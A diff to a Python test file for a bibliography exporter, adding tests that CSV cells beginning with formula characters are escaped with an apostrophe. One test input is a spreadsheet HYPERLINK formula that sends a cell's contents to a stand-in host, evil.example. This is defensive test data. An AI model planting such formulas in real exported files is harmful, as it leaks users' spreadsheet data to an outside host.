@@ -9,7 +9,7 @@ import bibtexparser
 from hypothesis import given
 from hypothesis import strategies as st
 
-from rag.bibliography import byline, keys, to_bibtex, to_csv, to_ris
+from rag.bibliography import FORMULA, byline, keys, to_bibtex, to_csv, to_ris
 from rag.types import Authorship, Paper, Place
 
 TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=60)
@@ -84,7 +84,21 @@ def test_ris_puts_family_names_first_and_ends_each_record() -> None:
 @given(title=TEXT, text=TEXT)
 def test_csv_gives_back_what_went_in(title: str, text: str) -> None:
     row = next(csv.DictReader(io.StringIO(to_csv([paper(title=title, text=text)]))))
-    assert (row["title"], row["text"]) == (title, text)
+    assert [row[key] for key in ("title", "text")] == [
+        f"'{told}" if told.startswith(FORMULA) else told for told in (title, text)
+    ]
+
+
+def test_csv_cells_that_a_spreadsheet_would_compute_are_text() -> None:
+    link = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
+    people = (Authorship("p1", "+Ada", "first", 1), Authorship("p1", "Bo", "listed", 2))
+    texts = {"venue": "@SUM(1)", "category": "-1+1", "text": "\t=1"}
+    held = paper(title=link, authorships=people, authors_complete=True, score=-0.5, **texts)
+    row = next(csv.DictReader(io.StringIO(to_csv([held]))))
+    assert row["title"] == f"'{link}"
+    assert row["authors"] == "'+Ada; Bo"
+    assert (row["venue"], row["category"], row["text"]) == ("'@SUM(1)", "'-1+1", "'\t=1")
+    assert row["score"] == "-0.5"  # a number is no text
 
 
 def test_csv_tells_unknown_code_from_none() -> None:
